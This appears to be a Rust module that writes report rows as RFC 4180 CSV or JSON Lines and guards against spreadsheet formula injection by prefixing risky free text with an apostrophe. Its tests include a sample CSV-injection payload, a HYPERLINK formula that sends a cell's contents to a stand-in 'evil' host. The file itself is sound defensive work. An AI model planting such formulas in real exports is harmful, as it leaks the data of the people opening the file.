//! A report's rows as its file's bytes: CSV by RFC 4180 (a header row,
//! CRLF line ends, a field quoted when it holds a comma, a quote or a line
//! end; free text that a spreadsheet would take for a formula led by `'`)
//! or JSON Lines (an object per row, keyed by the same column names, as
//! they are).

use super::rows::{Cell, Column};
use crate::kinds::ReportFormat;
use serde_json::Value;

/// The file's first bytes: CSV's header row; nothing for JSON Lines.
pub fn header(format: ReportFormat, columns: &[Column]) -> String {
    match format {
        ReportFormat::Csv => {
            let mut out = columns.iter().map(|(name, _, _)| csv_field(name)).collect::<Vec<_>>().join(",");
            out.push_str("\r\n");
            out
        }
        ReportFormat::Jsonl => String::new(),
    }
}

/// `item`'s line: each column's value at its pointer (null when absent).
pub fn line(format: ReportFormat, columns: &[Column], item: &Value, out: &mut String) {
    let value = |pointer: &str| item.pointer(pointer).unwrap_or(&Value::Null);
    match format {
        ReportFormat::Csv => {
            for (i, (_, pointer, kind)) in columns.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                let text = cell(value(pointer));
                out.push_str(&csv_field(&if *kind == Cell::Text { defused(text) } else { text }));
            }
            out.push_str("\r\n");
        }
        ReportFormat::Jsonl => {
            // written by hand to keep the columns' order
            out.push('{');
            for (i, (name, pointer, _)) in columns.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                out.push_str(&Value::from(*name).to_string());
                out.push(':');
                out.push_str(&value(pointer).to_string());
            }
            out.push_str("}\n");
        }
    }
}

/// A value as a CSV cell: a string as it is, null as nothing, anything
/// else as its JSON text.
fn cell(v: &Value) -> String {
    match v {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// Free text as a spreadsheet cannot run it: one that starts with what
/// starts a formula (`=`, `+`, `-`, `@`, a tab, a carriage return) gets a
/// leading `'`, which spreadsheets show as text (OWASP, CSV injection).
fn defused(text: String) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text }
}

fn csv_field(s: &str) -> String {
    if s.contains([',', '"', '\r', '\n']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s.to_string() }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const COLUMNS: &[Column] = &[("id", "/id", Cell::Typed), ("name", "/customer/name", Cell::Text), ("n", "/n", Cell::Typed), ("gone", "/gone", Cell::Typed)];

    #[test]
    fn csv_quotes_what_rfc_4180_asks_and_leaves_nulls_empty() {
        assert_eq!(header(ReportFormat::Csv, COLUMNS), "id,name,n,gone\r\n");
        let mut out = String::new();
        line(ReportFormat::Csv, COLUMNS, &json!({"id": "a", "customer": {"name": "Acme, \"AB\"\nStockholm"}, "n": 12}), &mut out);
        assert_eq!(out, "a,\"Acme, \"\"AB\"\"\nStockholm\",12,\r\n");
    }

    #[test]
    fn json_lines_keep_the_columns_order_and_nulls() {
        assert_eq!(header(ReportFormat::Jsonl, COLUMNS), "");
        let mut out = String::new();
        line(ReportFormat::Jsonl, COLUMNS, &json!({"id": "a", "customer": {"name": "Ö"}, "n": 1.5}), &mut out);
        assert_eq!(out, "{\"id\":\"a\",\"name\":\"Ö\",\"n\":1.5,\"gone\":null}\n");
    }

    #[test]
    fn csv_free_text_that_would_start_a_formula_is_text_and_typed_columns_stay() {
        let columns: &[Column] = &[("msisdn", "/msisdn", Cell::Typed), ("amount", "/amount", Cell::Typed), ("name", "/name", Cell::Text)];
        for (typed, expected) in [
            ("=HYPERLINK(\"https://evil/?\"&A2,\"x\")", "\"'=HYPERLINK(\"\"https://evil/?\"\"&A2,\"\"x\"\")\""),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "\"'\r=1\""),
            ("Acme = fine", "Acme = fine"),
            ("'quoted", "'quoted"),
        ] {
            let mut out = String::new();
            line(ReportFormat::Csv, columns, &json!({"msisdn": "+46701234567", "amount": -1200, "name": typed}), &mut out);
            assert_eq!(out, format!("+46701234567,-1200,{expected}\r\n"), "{typed:?}");
            // JSON Lines carry the text as it is
            let mut out = String::new();
            line(ReportFormat::Jsonl, columns, &json!({"msisdn": "+46701234567", "amount": -1200, "name": typed}), &mut out);
            assert_eq!(out, format!("{{\"msisdn\":\"+46701234567\",\"amount\":-1200,\"name\":{}}}\n", json!(typed)));
        }
    }
}
